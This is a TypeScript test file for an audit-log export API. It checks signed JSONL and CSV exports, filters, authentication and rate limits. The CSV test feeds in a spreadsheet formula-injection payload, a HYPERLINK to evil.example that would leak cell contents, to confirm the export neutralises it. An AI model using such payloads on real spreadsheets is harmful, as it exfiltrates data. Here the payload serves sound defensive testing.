import { createHash } from "node:crypto";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createAuditSigner, newAuditKey } from "@countersign/api/audit-signature";
import { checkExport } from "@countersign/api/check-export";
import { describe, expect, it, onTestFinished } from "vitest";
import { z } from "zod";
import { openApi } from "../fixtures/api-harness.ts";
import { checkExportFile } from "./check-export-file.ts";

const authorization = "Bearer the-token-of-the-tests";

async function open() {
  const api = await openApi();
  onTestFinished(api.close);
  const { origin } = api;
  const ask = (query: string, headers: Record<string, string> = { authorization }) =>
    fetch(`${origin}/api/audit/export${query}`, { headers });
  const deny = async (command: string, reason: string) => {
    const { call } = await api.waiting(command);
    await api.decide({ id: call.id, digest: call.digest, verdict: "deny", reason });
  };
  const key = async () =>
    z
      .object({ result: z.object({ data: z.object({ id: z.string() }) }) })
      .parse((await api.get("audit.key")).body).result.data.id;
  return { api, ask, deny, key };
}

const publicKeyOf = (body: unknown) =>
  z.object({ result: z.object({ data: z.object({ publicKey: z.string() }) }) }).parse(body).result.data
    .publicKey;
const keyMade = z.object({ result: z.object({ data: z.object({ secret: z.string() }) }) });

async function* linesOf(text: string): AsyncGenerator<string> {
  yield* text.split("\n").slice(0, -1);
}

describe("the export", () => {
  it("in JSON lines is the whole audit log, can be checked without the server, and ends with the signed head", async () => {
    const { ask, deny, key } = await open();
    await deny("sh -c 'echo one'", "no\u2028one");
    await deny("sh -c 'echo two'", "=no two");
    const response = await ask("?format=jsonl");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="countersign-audit-\d{4}-\d\d-\d\d\.jsonl"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    const text = await response.text();
    const check = await checkExport({ lines: linesOf(text), trustedKeys: new Set([await key()]) });
    expect(check).toMatchObject({
      isIntact: true,
      gaps: 0,
      forgotten: 0,
      trailer: { by: "owner", broken: null },
    });
    if (!check.isIntact) throw new Error(check.reason);
    const { head } = check.trailer;
    expect(response.headers.get("countersign-ledger-head")).toBe(`${head?.seq} ${head?.hash}`);
    expect(head?.seq).toBe(String(check.rows));
    const verdicts = text.split("\n").map((line) => /"verdict":"(\w+)"/.exec(line)?.[1]);
    expect(verdicts.filter((verdict) => verdict === "deny")).toHaveLength(2);
  });

  it("that was kept as a file is checked from there, with the key of the server alone", async () => {
    const { api, ask, deny } = await open();
    await deny("sh -c 'echo one'", "no\u2028one");
    const path = join(api.dataFolder, "export.jsonl");
    const [right, wrong] = [join(api.dataFolder, "right.pem"), join(api.dataFolder, "wrong.pem")];
    const text = await (await ask("?format=jsonl")).text();
    await writeFile(path, text);
    await writeFile(right, publicKeyOf((await api.get("audit.key")).body));
    await writeFile(wrong, createAuditSigner(newAuditKey()).publicKey);
    expect(await checkExportFile({ path, keyFile: right })).toMatchObject({ isIntact: true, gaps: 0 });
    expect(await checkExportFile({ path, keyFile: null })).toMatchObject({ isIntact: true });
    expect(await checkExportFile({ path, keyFile: wrong })).toMatchObject({
      isIntact: false,
      reason: expect.stringContaining("signed with a different key"),
    });
    await writeFile(path, text.replace("echo one", "echo two"));
    expect(await checkExportFile({ path, keyFile: right })).toMatchObject({ isIntact: false });
    await expect(checkExportFile({ path: `${path}.gone`, keyFile: null })).rejects.toThrow("can’t be read");
    await expect(checkExportFile({ path, keyFile: path })).rejects.toThrow("can’t be used");
  });

  it("has only the rows that fit the filters, and says which those were", async () => {
    const { ask, deny } = await open();
    await deny("sh -c 'echo one'", "no");
    await deny("sh -c 'echo two'", "no");
    const text = await (await ask("?format=jsonl&verdict=deny&by=owner&text=ECHO%20two")).text();
    const check = await checkExport({ lines: linesOf(text), trustedKeys: null });
    const filters = { verdict: "deny", by: "owner" };
    expect(check).toMatchObject({ isIntact: true, rows: 1, trailer: { filters, text: "ECHO two" } });
    expect(text).toContain("echo two");
    expect(text).not.toContain("echo one");
  });

  it("in CSV begins with the names of the columns, holds no formula, and ends with what is signed", async () => {
    const { ask, deny } = await open();
    await deny("sh -c true", '=HYPERLINK("http://evil.example/"&A1)');
    await deny("sh -c false", "@SUM(1)\r\n;=1+1\0");
    const response = await ask("?format=csv");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    const bytes = Buffer.from(await response.arrayBuffer());
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = bytes.toString("utf8");
    const records = text.split("\r\n").slice(0, -1);
    expect(records[0]).toMatch(
      /^\ufeff"row","decided_at","asked_at","waited_ms","verdict","tool","what","reason"/,
    );
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`);
    expect(text).toContain(`"'@SUM(1)\n;'=1+1\u2400"`);
    const [mark, , ...rest] = (records.at(-1) ?? "").split('","');
    expect(mark).toBe('"#');
    expect(rest.length).toBeGreaterThan(0);
    const body = text.slice(0, text.lastIndexOf('"#"'));
    const sha256 = createHash("sha256").update(body, "utf8").digest("hex");
    expect(records.at(-1)).toContain(`""sha256"":""${sha256}""`);
  });

  it.each([
    { name: "no format", query: "", says: "format" },
    { name: "another format", query: "?format=xml", says: "jsonl" },
    { name: "a filter that there is none of", query: "?format=csv&color=red", says: "color" },
    { name: "a verdict that there is none of", query: "?format=csv&verdict=maybe", says: "verdict" },
    { name: "a kind that there is none of", query: "?format=csv&by=kind:ghost", says: "ghost" },
    { name: "a filter twice", query: "?format=csv&tool=a&tool=b", says: "tool" },
    { name: "a format twice", query: "?format=csv&format=jsonl", says: "format" },
    { name: "a time that is none", query: "?format=csv&since=yesterday", says: "since" },
  ])("refuses $name in words", async ({ query, says }) => {
    const { ask } = await open();
    const response = await ask(query);
    expect(response.status).toBe(400);
    expect(response.headers.get("content-disposition")).toBeNull();
    expect(await response.text()).toContain(says);
  });

  it.each([
    { name: "nobody", headers: {}, status: 401 },
    { name: "a wrong token", headers: { authorization: "Bearer wrong-token-of-tests" }, status: 401 },
    {
      name: "a page of another origin",
      headers: { authorization, origin: "http://evil.example" },
      status: 403,
    },
    {
      name: "a page of another site",
      headers: { authorization, "sec-fetch-site": "cross-site" },
      status: 403,
    },
  ])("gives nothing to $name", async ({ headers, status }) => {
    const { ask } = await open();
    const response = await ask("?format=jsonl", headers);
    expect(response.status).toBe(status);
    expect(await response.text()).not.toContain("previousHash");
  });

  it("leaves out the private sessions of others, and refuses a key that may not read", async () => {
    const { api, ask } = await open();
    const { id, call } = await api.waiting("sh -c 'echo for nobody else'");
    await api.decide({ id: call.id, digest: call.digest, verdict: "deny" });
    await api.post("sessions.setVisibility", { id, visibility: "private" });
    const { cookie } = await api.person("bo", "viewer");
    const seen = await ask("?format=jsonl", { cookie });
    expect(seen.status).toBe(200);
    expect(await seen.text()).not.toContain("for nobody else");
    expect(await (await ask("?format=csv")).text()).toContain("for nobody else");

    const made = await api.post("keys.create", { name: "deciding", scopes: ["decide"], days: null });
    const { secret } = keyMade.parse(made.body).result.data;
    const refused = await ask("?format=jsonl", { authorization: `Bearer ${secret}` });
    expect(refused.status).toBe(403);
    expect(await refused.text()).toContain("read");
  });

  it("frees its place when it is read or left", async () => {
    const { ask } = await open();
    for (let count = 0; count < 6; count++) {
      const hangUp = await ask("?format=jsonl");
      await hangUp.body?.cancel();
    }
    await expect.poll(async () => (await ask("?format=jsonl")).status).toBe(200);
  });

  it("is asked for only so often", async () => {
    const { ask } = await open();
    const statuses = new Set<number>();
    for (let count = 0; count < 35; count++) {
      const response = await ask("?format=jsonl&text=nothing");
      statuses.add(response.status);
      await response.text();
    }
    expect(statuses).toEqual(new Set([200, 429]));
  });
});
